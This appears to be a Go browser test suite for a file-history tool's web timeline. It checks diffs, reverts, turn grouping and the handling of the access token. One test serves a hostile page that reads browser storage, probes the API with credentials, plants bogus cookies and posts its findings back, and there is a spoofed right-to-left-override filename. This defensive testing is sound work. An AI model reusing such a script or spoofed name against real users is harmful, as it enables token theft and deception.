package main

import (
	"bufio"
	"context"
	"encoding/json"
	"fmt"
	"io"
	"net/http"
	"net/http/httptest"
	"net/http/httputil"
	"net/url"
	"os"
	"os/exec"
	"path/filepath"
	"regexp"
	"strconv"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/chromedp/cdproto/cdp"
	"github.com/chromedp/cdproto/network"
	"github.com/chromedp/cdproto/storage"
	"github.com/chromedp/chromedp"

	"github.com/zerofs/zerofs/history"
	"github.com/zerofs/zerofs/internal/testsupport"
)

// needChromium is the path of a Chromium to drive, or skips the test
// saying why, or fails it in CI (ZEROFS_REQUIRE_FUSE=1), which installs one.
func needChromium(t *testing.T) string {
	t.Helper()
	for _, name := range []string{"chromium", "chromium-browser", "google-chrome"} {
		if p, err := exec.LookPath(name); err == nil {
			return p
		}
	}
	testsupport.Unavailable(t, "the browser test needs a chromium on PATH (apt-get install chromium)")
	return ""
}

// startUI runs the built `zerofs ui` in dir with args and returns the URL
// it prints, and a stop that kills it (also run when the test ends).
func startUI(t *testing.T, dir string, args ...string) (string, func()) {
	t.Helper()
	cmd := exec.Command(binary, append([]string{"ui"}, args...)...)
	cmd.Dir = dir
	cmd.Stderr = os.Stderr
	out, err := cmd.StdoutPipe()
	if err != nil {
		t.Fatal(err)
	}
	if err := cmd.Start(); err != nil {
		t.Fatal(err)
	}
	var once sync.Once
	stop := func() {
		once.Do(func() {
			cmd.Process.Kill()
			cmd.Wait()
		})
	}
	t.Cleanup(stop)
	line := make(chan string, 1)
	go func() {
		s := bufio.NewScanner(out)
		s.Scan()
		line <- s.Text()
		for s.Scan() {
		}
	}()
	select {
	case l := <-line:
		i := strings.Index(l, "http://")
		if i < 0 {
			t.Fatalf("zerofs ui printed %q, want a URL", l)
		}
		return l[i:], stop
	case <-time.After(60 * time.Second):
		t.Fatal("zerofs ui printed no URL in 60 s")
	}
	return "", stop
}

// browserT is a headless Chromium's first tab, closed when the test ends.
func browserT(t *testing.T, chrome string) context.Context {
	t.Helper()
	opts := []chromedp.ExecAllocatorOption{
		chromedp.ExecPath(chrome), chromedp.UserDataDir(t.TempDir()),
		chromedp.Flag("headless", true), chromedp.Flag("no-sandbox", true), chromedp.DisableGPU,
		chromedp.Flag("disable-quic", true), chromedp.NoFirstRun, chromedp.NoDefaultBrowserCheck,
		chromedp.Flag("disable-background-networking", true), chromedp.Flag("disable-component-update", true),
		chromedp.Flag("disable-sync", true), chromedp.Flag("disable-dev-shm-usage", true),
		chromedp.WindowSize(1360, 900),
	}
	actx, cancelA := chromedp.NewExecAllocator(context.Background(), opts...)
	t.Cleanup(cancelA)
	ctx, cancelB := chromedp.NewContext(actx)
	t.Cleanup(cancelB)
	ctx, cancelT := context.WithTimeout(ctx, 5*time.Minute)
	t.Cleanup(cancelT)
	return ctx
}

// pollJS waits up to 60 s for the JS expression expr to be true in the
// tab of ctx, else fails the test with what the page shows.
func pollJS(t *testing.T, ctx context.Context, what, expr string) {
	t.Helper()
	if _, err := chromedp.Run(ctx, chromedp.Poll[bool]("!!("+expr+")", chromedp.WithPollingTimeout(60*time.Second))); err != nil {
		text, _ := chromedp.Run(ctx, chromedp.Evaluate[string](`document.body.innerText`))
		t.Fatalf("%s: %v; the page shows:\n%s", what, err, text)
	}
}

// clickJS clicks the element the JS expression expr finds.
func clickJS(t *testing.T, ctx context.Context, what, expr string) {
	t.Helper()
	ok, err := chromedp.Run(ctx, chromedp.Evaluate[bool](`(() => { const e = `+expr+`; if (!e) return false; e.click(); return true })()`))
	if err != nil || !ok {
		t.Fatalf("click %s: %v (found: %v)", what, err, ok)
	}
}

// TestTimelineInBrowser drives the timeline in a real headless Chromium
// over a real mounted session: the page lists the steps, a click on a path
// shows its diff (unified and side by side), a revert is previewed and
// then changes the workspace, the page shows the revert and undoes it, and
// a step made meanwhile appears; a request without the token is refused. It saves a screenshot of the page
// (ZEROFS_SCREENSHOT=PATH, e.g. docs/timeline.png from the repository's
// root, to update the README's).
func TestTimelineInBrowser(t *testing.T) {
	chrome := needChromium(t)
	ws := filepath.Join(t.TempDir(), "ws")
	if err := os.Mkdir(ws, 0o755); err != nil {
		t.Fatal(err)
	}
	writeFile(t, filepath.Join(ws, "notes.txt"), "todo: greet the world\n")
	mountT(t, ws)
	sh := func(script string) {
		t.Helper()
		cmd := exec.Command("sh", "-c", script)
		cmd.Dir = ws
		if out, err := cmd.CombinedOutput(); err != nil {
			t.Fatalf("sh -c %q: %v\n%s", script, err, out)
		}
	}
	step := func(label string) {
		t.Helper()
		if r := bin(t, ws, "", "step", label); r.code != 0 {
			t.Fatalf("zerofs step: %s", r.stderr)
		}
	}
	step("Create hello.go")
	sh(`printf 'package main\n\nimport "fmt"\n\nfunc main() {\n\tfmt.Println("hello")\n}\n' > hello.go`)
	step("Add a README and a logo")
	sh(`printf '# hello\n\nSays hello.\n' > README.md && printf '\211PNG\r\n\032\n\000\000' > logo.png && printf 'go run .\n' > run.sh`)
	sh(`printf '# Guide\n\nRun it.\nRead it.\nFix it.\nShip it.\n' > guide.md`)
	step("Greet the world")
	sh(`sed -i 's/"hello"/"hello, world"/' hello.go && printf 'package main\n\nfunc greet() string { return "hi" }\n' > greet.go`)
	step("Tidy up")
	sh(`mv notes.txt TODO.txt && chmod +x run.sh && rm README.md`)
	step("Rename the guide")
	sh(`mv guide.md manual.md && sed -i 's/# Guide/# Manual/' manual.md`)
	edited, err := os.ReadFile(filepath.Join(ws, "hello.go"))
	if err != nil || !strings.Contains(string(edited), "hello, world") {
		t.Fatalf("hello.go = %q, %v", edited, err)
	}

	u, _ := startUI(t, ws)
	base, err := url.Parse(u)
	if err != nil {
		t.Fatal(err)
	}
	tok, ok := strings.CutPrefix(base.Fragment, "token=")
	if !ok || base.RawQuery != "" {
		t.Fatalf("zerofs ui printed %q, want the token in the fragment only", u)
	}
	for _, target := range []string{"/api/head", "/api/log", "/api/log?token=" + tok} {
		resp, err := http.Get("http://" + base.Host + target)
		if err != nil {
			t.Fatal(err)
		}
		resp.Body.Close()
		if resp.StatusCode != http.StatusForbidden {
			t.Errorf("GET %s without the token header: %d, want 403", target, resp.StatusCode)
		}
	}

	ctx := browserT(t, chrome)

	// entry is the JS expression of the entry labelled label.
	entry := func(label string) string {
		return fmt.Sprintf(`[...document.querySelectorAll(".entry")].find(e => e.querySelector(".label").textContent === %q)`, label)
	}
	poll := func(what, expr string) { t.Helper(); pollJS(t, ctx, what, expr) }
	click := func(what, expr string) { t.Helper(); clickJS(t, ctx, what, expr) }

	// Every console error, uncaught exception and failed load (a missing
	// favicon is one) is a failure.
	var consoleMu sync.Mutex
	var consoleErrs []string
	cctx, stopConsole := context.WithCancel(ctx)
	messages := chromedp.Console(cctx)
	consoleDone := make(chan struct{})
	go func() {
		defer close(consoleDone)
		for m, err := range messages {
			if err != nil {
				return
			}
			if m.Type == chromedp.ConsoleError || m.IsException() {
				consoleMu.Lock()
				consoleErrs = append(consoleErrs, m.String())
				consoleMu.Unlock()
			}
		}
	}()
	defer func() {
		stopConsole()
		<-consoleDone
		consoleMu.Lock()
		defer consoleMu.Unlock()
		for _, e := range consoleErrs {
			t.Errorf("the page logged an error: %s", e)
		}
	}()
	if err := chromedp.Do(ctx, chromedp.Navigate(u)); err != nil {
		t.Fatal(err)
	}
	if loc, err := chromedp.Run(ctx, chromedp.Location()); err != nil || strings.Contains(loc, "token") {
		t.Errorf("location %q, %v: want the token dropped from the URL", loc, err)
	}
	labels := []string{"Rename the guide", "Tidy up", "Greet the world", "Add a README and a logo", "Create hello.go"}
	poll("the steps are listed", `document.querySelectorAll(".entry").length >= 5`)
	got, err := chromedp.Run(ctx, chromedp.Evaluate[[]string](`[...document.querySelectorAll(".entry .label")].map(e => e.textContent)`))
	if err != nil {
		t.Fatal(err)
	}
	if strings.Join(got, "|") != strings.Join(labels, "|") {
		t.Errorf("entries %q, want %q newest first", got, labels)
	}
	poll("the edit names sed and its line counts", `(() => { const e = `+entry("Greet the world")+`;
		const row = [...e.querySelectorAll(".file")].find(r => r.querySelector("a.path").textContent === "hello.go");
		return e.querySelector(".procs").textContent.includes("sed") && row.querySelector(".add").textContent === "+1" &&
		row.querySelector(".del").textContent === "−1" })()`)
	poll("the tidy-up shows the rename, the mode and the deletion", `(() => { const t = `+entry("Tidy up")+`.innerText;
		return t.includes("notes.txt \u2192 TODO.txt") && t.includes("0644\u21920755") && t.includes("README.md") })()`)
	poll("the logo is marked binary", entry("Add a README and a logo")+`.innerText.includes("binary")`)
	// Issue 30: the counts of an added file stood further left than a
	// modified one's (its button's longer label took their place).
	poll("the +N -M columns line up, added files' too", countsAligned)
	// Times say the date and how long ago.
	poll("times with a date and a relative form", `[...document.querySelectorAll(".entry time")].every(t =>
		/^\d{4}-\d\d-\d\d \d\d:\d\d \u00b7 (just now|\d+ min ago)$/.test(t.textContent))`)
	// "Restore" on a file the step added would remove it: it says so.
	poll("the added file's button says it removes", `(() => { const e = `+entry("Add a README and a logo")+`;
		const row = [...e.querySelectorAll(".file")].find(r => r.querySelector("a.path").textContent === "run.sh");
		const b = row.querySelector("button.restore");
		return b.textContent === "Remove (as before the step)" && b.title.startsWith("Remove run.sh, as before") })()`)
	// A file moved and edited is one rename, with its content's diff.
	poll("the moved guide is a rename with line counts", `(() => { const e = `+entry("Rename the guide")+`;
		const rows = e.querySelectorAll(".file");
		return rows.length === 1 && rows[0].querySelector("a.path").textContent === "guide.md \u2192 manual.md" &&
		rows[0].querySelector(".add").textContent === "+1" && rows[0].querySelector(".del").textContent === "\u22121" })()`)
	click("the renamed guide", entry("Rename the guide")+`.querySelector("a.path")`)
	poll("the rename's diff", `(() => { const b = document.getElementById("diff-body");
		return b.querySelector(".fdhead")?.textContent === "guide.md \u2192 manual.md" && !!b.querySelector(".fdnote")?.textContent.startsWith("renamed") &&
		[...b.querySelectorAll("td.add")].some(td => td.textContent.includes("# Manual")) })()`)

	click("hello.go in Greet the world", `[...`+entry("Greet the world")+`.querySelectorAll("a.path")].find(a => a.textContent === "hello.go")`)
	poll("a click shows the diff", `(() => { const d = document.querySelector("#diff-body table.unified");
		return d && d.innerText.includes("hello, world") && d.querySelector("td.del") && d.querySelector("td.add") })()`)
	click("side by side", `document.getElementById("mode-split")`)
	poll("the side by side diff", `(() => { const d = document.querySelector("#diff-body table.split");
		return d && [...d.querySelectorAll("td.add")].some(td => td.textContent.includes("hello, world")) &&
		[...d.querySelectorAll("td.del")].some(td => td.textContent.includes('"hello"')) })()`)
	click("unified", `document.getElementById("mode-unified")`)

	click("Revert step on Greet the world", entry("Greet the world")+`.querySelector("button.revert")`)
	poll("the preview lists what the revert would do", `(() => { const d = document.getElementById("preview");
		return d.open && d.innerText.includes("hello.go") && d.innerText.includes("greet.go") &&
		!document.getElementById("preview-apply").disabled })()`)
	// The summary is the report in the words the CLI prints
	// (history.Describe), and counts the rows it heads; its title is the
	// question the button asked.
	poll("the preview's counts match its rows", `(() => {
		const rows = [...document.querySelectorAll("#preview-list .pv .act")].map(a => a.textContent);
		const n = (a) => rows.filter(r => r === a).length;
		const m = /^Would revert step \d+ "Greet the world": restore (\d+), delete (\d+), skip 0$/.exec(document.getElementById("preview-summary").textContent);
		return rows.length === 2 && m && +m[1] === n("restore") + n("create") && +m[2] === n("delete") &&
		document.getElementById("preview-title").textContent === "Revert \u201cGreet the world\u201d, keeping later changes" })()`)
	if b, _ := os.ReadFile(filepath.Join(ws, "hello.go")); string(b) != string(edited) {
		t.Fatalf("the preview changed hello.go: %q", b)
	}
	click("Apply", `document.getElementById("preview-apply")`)
	var b []byte
	var gerr error
	if testsupport.Poll(60*time.Second, func() bool {
		b, _ = os.ReadFile(filepath.Join(ws, "hello.go"))
		_, gerr = os.Stat(filepath.Join(ws, "greet.go"))
		return strings.Contains(string(b), `"hello")`) && os.IsNotExist(gerr)
	}) != nil {
		t.Fatalf("the revert did not change the workspace: hello.go %q, greet.go %v", b, gerr)
	}
	// The revert is named as zerofs log names it, and the toast says what
	// `zerofs revert` prints: one wording (history.Describe, Block.Title).
	poll("the page shows the revert", `(() => { const e = document.querySelector(".entry");
		return e.classList.contains("rewind") && /^Revert of step \d+ "Greet the world"$/.test(e.querySelector(".label").textContent) && e.innerText.includes("hello.go") })()`)
	poll("the toast says what the CLI says", `/^Reverted step \d+ "Greet the world": restored 1, deleted 1, skipped 0\.$/.test(document.getElementById("toast-text").textContent)`)
	if lg := binOK(t, ws, "log"); !regexp.MustCompile(`rewind +\d+ +\S+ \S+  revert of step \d+ "Greet the world": restored 1, deleted 1`).MatchString(lg) {
		t.Errorf("zerofs log does not name the revert as the page does:\n%s", lg)
	}
	poll("the toast offers an undo", `!document.getElementById("toast").hidden && !document.getElementById("toast-undo").hidden`)

	// The screenshot: the timeline with the revert on top and a diff open.
	click("hello.go in Greet the world", `[...`+entry("Greet the world")+`.querySelectorAll("a.path")].find(a => a.textContent === "hello.go")`)
	poll("the diff again", `document.querySelector("#diff-body table.unified") !== null`)
	click("close the toast", `document.getElementById("toast-close")`)
	png, err := chromedp.Run(ctx, chromedp.CaptureScreenshot())
	if err != nil {
		t.Fatal(err)
	}
	shot := os.Getenv("ZEROFS_SCREENSHOT")
	if shot == "" {
		shot = filepath.Join(t.TempDir(), "timeline.png")
	} else if !filepath.IsAbs(shot) {
		shot = filepath.Join("..", "..", shot) // from the repository's root
	}
	if err := os.WriteFile(shot, png, 0o644); err != nil {
		t.Fatal(err)
	}
	t.Logf("screenshot: %s (%d bytes)", shot, len(png))

	// Three widths: the diff stays beside the list, or over it in a narrow
	// window (in view, with a way to close it), never below the whole list.
	for _, w := range []int64{1360, 1024, 560} {
		if err := chromedp.Do(ctx, chromedp.EmulateViewport(w, 900)); err != nil {
			t.Fatal(err)
		}
		click("hello.go in Greet the world", `[...`+entry("Greet the world")+`.querySelectorAll("a.path")].find(a => a.textContent === "hello.go")`)
		poll(fmt.Sprintf("the diff in view at %d px", w), `(() => { const r = document.getElementById("detail").getBoundingClientRect();
			const l = document.getElementById("timeline").getBoundingClientRect();
			return r.width > 200 && r.top < innerHeight * 0.5 && r.bottom <= innerHeight + 1 && (r.left >= l.right - 1 || getComputedStyle(document.getElementById("detail")).position === "fixed") &&
			document.querySelector("#diff-body table.unified") !== null })()`)
		t.Logf("screenshot at %d px: %s", w, screenshot(t, ctx, fmt.Sprintf("timeline-%d.png", w)))
	}
	click("close the diff", `document.getElementById("diff-close")`)
	poll("the narrow diff closes", `getComputedStyle(document.getElementById("detail")).display === "none"`)
	if err := chromedp.Do(ctx, chromedp.EmulateViewport(1360, 900)); err != nil {
		t.Fatal(err)
	}

	// Undo the revert from its entry: previewed, then the edit is back.
	click("Undo on the revert", `document.querySelector(".entry.rewind button.undo")`)
	poll("the undo's preview", `document.getElementById("preview").open && !document.getElementById("preview-apply").disabled &&
		document.getElementById("preview-list").innerText.includes("hello.go")`)
	click("Apply", `document.getElementById("preview-apply")`)
	poll("the undo's own entry", `document.querySelectorAll(".entry.rewind").length === 2`)
	b, _ = os.ReadFile(filepath.Join(ws, "hello.go"))
	if string(b) != string(edited) {
		t.Errorf("after the undo hello.go = %q, want %q", b, edited)
	}
	if _, err := os.Stat(filepath.Join(ws, "greet.go")); err != nil {
		t.Errorf("after the undo greet.go: %v", err)
	}

	// A step made meanwhile appears without a reload.
	step("A late step")
	sh(`printf 'late\n' > late.txt`)
	poll("the late step appears", `(() => { const e = `+entry("A late step")+`;
		return e && e === document.querySelector(".entry") && e.innerText.includes("late.txt") })()`)
}

// beginTurnT records a turn (a person's prompt, as a prompt hook does)
// with the JSON payload.
func beginTurnT(t *testing.T, ws, payload string) {
	t.Helper()
	hws, err := history.Find(ws)
	if err != nil {
		t.Fatal(err)
	}
	src, err := history.Open(context.Background(), hws, history.Options{})
	if err != nil {
		t.Fatal(err)
	}
	err = src.BeginTurn(context.Background(), []byte(payload))
	if cerr := src.Close(); err == nil {
		err = cerr
	}
	if err != nil {
		t.Fatal(err)
	}
}

// countsAligned is a JS expression: every changed path's +N and -M, in
// every card, has its right edge where the others have theirs.
const countsAligned = `(() => {
	const rows = [...document.querySelectorAll(".file")].filter(r => r.querySelector(".del"));
	const edges = (sel) => new Set(rows.map(r => Math.round(r.querySelector(sel).getBoundingClientRect().right)));
	return rows.length >= 2 && edges(".add").size === 1 && edges(".del").size === 1 })()`

// TestTimelineTokenStaysInPage: issue 33. The token was kept in a cookie,
// which a browser sends to every port of 127.0.0.1: any other local server
// the person visited got it, and a page on another port could shadow it
// with a bogus cookie and lock the timeline out. Now the token travels in
// the URL's fragment and stays in the page: a server on another port of
// 127.0.0.1, visited by the same Chromium in another tab and in the
// timeline's own tab, receives nothing of it (no cookie, no header, no
// URL, nothing its page can read and send), the browser holds no cookie
// at all, and the cookies that page plants change nothing. Opening the
// printed URL again, reloading, and opening a restarted zerofs ui's new
// URL in the same tab (only the fragment changes) all keep working. A
// prompt and an agent name with U+202E are shown quoted, as names are.
func TestTimelineTokenStaysInPage(t *testing.T) {
	chrome := needChromium(t)
	ws := mountedWS(t)
	binOK(t, ws, "step", "Write hello")
	sh(t, ws, "echo hello > hello.txt")
	beginTurnT(t, ws, `{"prompt":"open the invoice exe.png\u202egnp.exe","agent":"agent\u202ex"}`)
	binOK(t, ws, "step", "Edit hello")
	sh(t, ws, "echo hello again >> hello.txt")

	u, stop := startUI(t, ws)
	base, err := url.Parse(u)
	if err != nil {
		t.Fatal(err)
	}
	tok, ok := strings.CutPrefix(base.Fragment, "token=")
	if !ok || len(tok) < 32 || base.RawQuery != "" {
		t.Fatalf("zerofs ui printed %q, want the token in the fragment only", u)
	}

	// Another server on 127.0.0.1: it keeps every request whole, and its
	// page sends back whatever it can read, tries the timeline's API with
	// the browser's credentials, and plants cookies for the timeline's
	// port (what locked the page out when the token was a cookie).
	var mu sync.Mutex
	var got []string
	var reports []string
	other := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		dump, err := httputil.DumpRequest(r, true)
		if err != nil {
			t.Error(err)
		}
		mu.Lock()
		got = append(got, string(dump))
		if r.URL.Path == "/report" {
			b, _ := io.ReadAll(r.Body)
			reports = append(reports, string(b))
		}
		mu.Unlock()
		if r.URL.Path != "/" {
			return
		}
		w.Header().Set("Content-Type", "text/html; charset=utf-8")
		fmt.Fprintf(w, `<!doctype html><title>another server</title><script>
(async () => {
  const r = {cookie: document.cookie, local: JSON.stringify(localStorage), session: JSON.stringify(sessionStorage),
    referrer: document.referrer, history: history.length, name: window.name};
  try { const x = await fetch("http://%[1]s/api/head", {credentials: "include"}); r.cors = x.status + " " + await x.text(); }
  catch (e) { r.cors = "refused: " + e; }
  try { const x = await fetch("http://%[1]s/api/head", {credentials: "include", mode: "no-cors"}); r.nocors = x.type; }
  catch (e) { r.nocors = "refused: " + e; }
  document.cookie = "zerofs-token-%[2]s=bogus; path=/api";
  document.cookie = "zerofs-token=bogus; path=/";
  await fetch("/report", {method: "POST", body: JSON.stringify(r)});
  document.title = "reported";
})();
</script>`, base.Host, base.Port())
	}))
	t.Cleanup(other.Close)
	if strings.HasSuffix(other.URL, ":"+base.Port()) {
		t.Fatalf("the other server %s has the timeline's port", other.URL)
	}

	ctx := browserT(t, chrome)
	entries := `document.querySelectorAll(".entry").length === 3 && /^head \d+ \u00b7 live/.test(document.getElementById("status").textContent)`
	cookies := func() []string {
		t.Helper()
		cs, err := chromedp.Run(ctx, func(ctx context.Context, tg *chromedp.Target) ([]*network.Cookie, error) {
			res, err := cdp.Call(ctx, tg, storage.GetCookies, storage.GetCookiesParams{})
			return res.Cookies, err
		})
		if err != nil {
			t.Fatal(err)
		}
		var out []string
		for _, c := range cs {
			out = append(out, c.Name+"="+c.Value+" ("+c.Domain+c.Path+")")
		}
		return out
	}
	if err := chromedp.Do(ctx, chromedp.Navigate(u)); err != nil {
		t.Fatal(err)
	}
	pollJS(t, ctx, "the timeline lists the steps and the turn", entries)
	if loc, err := chromedp.Run(ctx, chromedp.Location()); err != nil || strings.Contains(loc, tok) {
		t.Errorf("location %q, %v: want the token dropped from the address", loc, err)
	}
	if c := cookies(); len(c) != 0 {
		t.Errorf("the browser holds cookies %q after opening the timeline, want none", c)
	}

	// The other server, in a second tab while the timeline stays open, then
	// in the timeline's own tab (a link followed).
	tab, cancelTab := chromedp.NewContext(ctx)
	defer cancelTab()
	for i, c := range []context.Context{tab, ctx} {
		if err := chromedp.Do(c, chromedp.Navigate(other.URL+"/")); err != nil {
			t.Fatal(err)
		}
		pollJS(t, c, "the other server's page reports", `document.title === "reported"`)
		mu.Lock()
		n := len(reports)
		mu.Unlock()
		if n != i+1 {
			t.Fatalf("%d reports after %d visits", n, i+1)
		}
	}
	mu.Lock()
	for _, req := range got {
		if strings.Contains(req, tok) {
			t.Errorf("the other server received the token:\n%s", req)
		}
	}
	if len(got) < 4 || strings.Contains(got[0], "Cookie:") {
		t.Errorf("the other server's first request (of %d) carries a cookie:\n%s", len(got), got[0])
	}
	for _, r := range reports {
		// A no-cors fetch gets no opaque answer either: the API's answers
		// are for its own origin (Cross-Origin-Resource-Policy).
		if !strings.Contains(r, `"cors":"refused:`) || !strings.Contains(r, `"nocors":"refused:`) {
			t.Errorf("the other page's report %s: want both fetches of the timeline's API refused", r)
		}
	}
	t.Logf("the other server's page read and sent: %s", strings.Join(reports, "; "))
	mu.Unlock()

	// The planted cookies lock nobody out: the printed URL, opened again,
	// works, and so does a reload (the fragment gone by then).
	if c := cookies(); len(c) != 2 {
		t.Errorf("cookies %q, want the other page's two", c)
	}
	if err := chromedp.Do(ctx, chromedp.Navigate(u)); err != nil {
		t.Fatal(err)
	}
	pollJS(t, ctx, "the printed URL opened again", entries)
	if err := chromedp.Do(ctx, chromedp.Reload()); err != nil {
		t.Fatal(err)
	}
	pollJS(t, ctx, "the page after a reload", entries)
	if loc, err := chromedp.Run(ctx, chromedp.Location()); err != nil || loc != "http://"+base.Host+"/" {
		t.Errorf("location after the reload %q, %v; want http://%s/", loc, err, base.Host)
	}
	pollJS(t, ctx, "the prompt and the agent quoted", `(() => { const e = document.querySelector(".entry.turn");
		return e.querySelector(".label").textContent === "\"open the invoice exe.png\\342\\200\\256gnp.exe\"" &&
		e.querySelector(".agent").textContent === "\"agent\\342\\200\\256x\"" && !document.body.innerText.includes("\u202e") })()`)
	t.Logf("screenshot after the reload: %s", screenshot(t, ctx, "timeline-reloaded.png"))

	// A tab of its own (its own sessionStorage) opened without the
	// fragment has no token, and says what to open.
	bare, cancelBare := chromedp.NewContext(ctx)
	defer cancelBare()
	if err := chromedp.Do(bare, chromedp.Navigate("http://"+base.Host+"/")); err != nil {
		t.Fatal(err)
	}
	pollJS(t, bare, "a tab without the token says what to open", `document.getElementById("status").textContent === "No token: open the URL zerofs ui printed." &&
		document.querySelectorAll(".entry").length === 0`)

	// zerofs ui restarted on the same port has a new token; its URL opened
	// in the same tab changes only the fragment (no reload): the page takes
	// the new token.
	stop()
	u2, _ := startUI(t, ws, "--listen", base.Host)
	if u2 == u || !strings.HasPrefix(u2, "http://"+base.Host+"/#token=") {
		t.Fatalf("the restarted zerofs ui printed %q (the first %q)", u2, u)
	}
	pollJS(t, ctx, "the old token refused", `document.getElementById("status").textContent.includes("wrong token")`)
	if _, err := chromedp.Run(ctx, chromedp.Evaluate[string](fmt.Sprintf(`location.href = %q`, u2))); err != nil {
		t.Fatal(err)
	}
	pollJS(t, ctx, "the new URL's token taken", entries+` && location.hash === ""`)
	mu.Lock()
	defer mu.Unlock()
	tok2 := strings.TrimPrefix(u2, "http://"+base.Host+"/#token=")
	for _, req := range got {
		if strings.Contains(req, tok2) {
			t.Errorf("the other server received the new token:\n%s", req)
		}
	}
}

// TestTimelineTurnsGrouped: issue 30. Each prompt card stood below its own
// steps, all at one indent, so the cards under a prompt looked like its
// children but belonged to the older prompt. Now a turn's prompt heads
// its steps, newest first, inside the turn's group, as `zerofs log`
// groups them; a page holds the prompt of every step on it, even when the
// prompt is older than the page's oldest step (its older steps join the
// group when Older steps brings them), and the counts line up in and out
// of groups.
func TestTimelineTurnsGrouped(t *testing.T) {
	chrome := needChromium(t)
	ws := mountedWS(t)
	binOK(t, ws, "step", "Before any prompt")
	sh(t, ws, "printf 'a\\n' > a.txt")
	beginTurnT(t, ws, `{"prompt":"first prompt","agent":"claude"}`)
	binOK(t, ws, "step", "First A")
	sh(t, ws, "printf 'b\\nb\\n' > b.txt")
	binOK(t, ws, "step", "First B")
	sh(t, ws, "printf 'a\\nmore\\n' > a.txt")
	beginTurnT(t, ws, `{"prompt":"second prompt\nwith a second line","agent":"claude"}`)
	// More steps than a page holds (50): the first page ends before the
	// second prompt.
	cmd := exec.Command("/bin/sh", "-ec", `for i in $(seq 1 52); do "$ZEROFS" step "Second $i"; echo $i > s$i.txt; done`)
	cmd.Dir = ws
	cmd.Env = append(os.Environ(), "ZEROFS="+binary)
	if out, err := cmd.CombinedOutput(); err != nil {
		t.Fatalf("52 steps: %v\n%s", err, out)
	}

	u, _ := startUI(t, ws)
	ctx := browserT(t, chrome)
	if err := chromedp.Do(ctx, chromedp.Navigate(u)); err != nil {
		t.Fatal(err)
	}
	// groups is the list as [head's label, step labels...] per top-level
	// item (a step outside any turn: [its label]).
	const groups = `[...document.getElementById("entries").children].map(li => li.classList.contains("turn-group")
		? [li.firstElementChild.querySelector(".label").textContent + (li.firstElementChild.classList.contains("cont") ? " [stand-in]" : ""),
		   ...[...li.querySelector(".turn-steps").children].map(s => s.querySelector(".label").textContent)]
		: [li.querySelector(".label").textContent])`
	want := func(second []string, rest ...[]string) string {
		b, _ := json.Marshal(append([][]string{second}, rest...))
		return string(b)
	}
	seconds := func(from, to int) []string {
		var out []string
		for i := from; i >= to; i-- {
			out = append(out, fmt.Sprintf("Second %d", i))
		}
		return out
	}
	check := func(what, wantJSON string) {
		t.Helper()
		pollJS(t, ctx, what, `JSON.stringify(`+groups+`) === `+strconv.Quote(wantJSON))
	}
	// The page holds the prompt of every step on it (history.LogPage), so
	// the second prompt heads its steps from the first page on.
	check("the first page: the second prompt heads its steps, older ones not loaded yet",
		want(append([]string{"\u201csecond prompt \u2026\u201d"}, seconds(52, 3)...)))
	clickJS(t, ctx, "Older steps", `document.getElementById("older")`)
	check("each prompt heads its own steps",
		want(append([]string{"\u201csecond prompt \u2026\u201d"}, seconds(52, 1)...),
			[]string{"\u201cfirst prompt\u201d", "First B", "First A"}, []string{"Before any prompt"}))
	pollJS(t, ctx, "a turn's Rewind button on its head", `[...document.querySelectorAll(".turn-group")].every(g =>
		g.firstElementChild.querySelector("button.rewind")?.textContent === "Rewind to before this prompt")`)
	pollJS(t, ctx, "the counts line up in and out of the groups", countsAligned)
	t.Logf("screenshot: %s", screenshot(t, ctx, "timeline-turns.png"))
	if _, err := chromedp.Run(ctx, chromedp.Evaluate[any](`window.scrollTo(0, document.body.scrollHeight)`)); err != nil {
		t.Fatal(err)
	}
	t.Logf("screenshot of the list's end: %s", screenshot(t, ctx, "timeline-turns-end.png"))

	// A step made now joins the newest group, on top.
	binOK(t, ws, "step", "Second 53")
	sh(t, ws, "echo 53 > s53.txt")
	check("the late step in its group",
		want(append([]string{"\u201csecond prompt \u2026\u201d"}, seconds(53, 1)...),
			[]string{"\u201cfirst prompt\u201d", "First B", "First A"}, []string{"Before any prompt"}))

	// The second turn taken back and brought back: each named by the
	// turn's prompt, as zerofs log names it (issue 30: it read "Redo of a
	// step with no label"); the take-back stands outside every turn, the
	// redo is the second turn's again.
	binOK(t, ws, "undo", "--turn")
	binOK(t, ws, "redo")
	pollJS(t, ctx, "the turn's undo and redo named by its prompt", `(() => {
		const top = [...document.getElementById("entries").children];
		const out = top.find(li => !li.classList.contains("turn-group") && li.querySelector(".label")?.textContent.startsWith("Turn "));
		const g = top.find(li => li.classList.contains("turn-group"));
		const redo = g && g.querySelector(".turn-steps .label");
		return !!out && /^Turn \d+ "second prompt …" taken back \(rewind to \d+\)$/.test(out.querySelector(".label").textContent) &&
			!!redo && /^Redo of turn \d+ "second prompt …"$/.test(redo.textContent) })()`)
}

// TestTimelineTurnsInterleaved: two agent sessions at work at once: each
// step belongs to its own session's prompt, so one turn's steps are not
// consecutive. The list stays newest first, and each run of a turn's
// steps is headed by its own prompt, marked continued where the prompt
// itself stands further down.
func TestTimelineTurnsInterleaved(t *testing.T) {
	chrome := needChromium(t)
	ws := appWS(t)
	mountT(t, ws)
	hook := func(name, session, prompt string) {
		t.Helper()
		payload := strings.ReplaceAll(fixture(t, name, ws), "9f26d0b2-1db8-4ea5-acdb-3c76457a4735", session)
		payload = strings.ReplaceAll(payload, "Rename hello to greet everywhere and fix the tests", prompt)
		if r := bin(t, "/", payload, "step", "--hook"); r.code != 0 {
			t.Fatalf("%s: exit %d: %s", name, r.code, r.stderr)
		}
	}
	hook("claude-UserPromptSubmit.json", "session-a", "prompt A")
	hook("claude-UserPromptSubmit.json", "session-b", "prompt B")
	hook("claude-PreToolUse-Edit.json", "session-a", "")
	writeFile(t, filepath.Join(ws, "app.py"), "print('hello')\n")
	hook("claude-PreToolUse-Bash.json", "session-b", "")
	sh(t, ws, "mkdir -p docs && echo x > docs/x.md")

	u, _ := startUI(t, ws)
	ctx := browserT(t, chrome)
	if err := chromedp.Do(ctx, chromedp.Navigate(u)); err != nil {
		t.Fatal(err)
	}
	const groups = `JSON.stringify([...document.getElementById("entries").children].map(li =>
		[li.firstElementChild.querySelector(".label").textContent, ...[...li.querySelectorAll(".turn-steps .label")].map(l => l.textContent)]))`
	want, _ := json.Marshal([][]string{
		{"\u201cprompt B\u201d (continued)", "Bash: rm -rf docs \u2026"},
		{"\u201cprompt A\u201d (continued)", "Edit app.py"},
		{"\u201cprompt B\u201d"},
		{"\u201cprompt A\u201d"},
	})
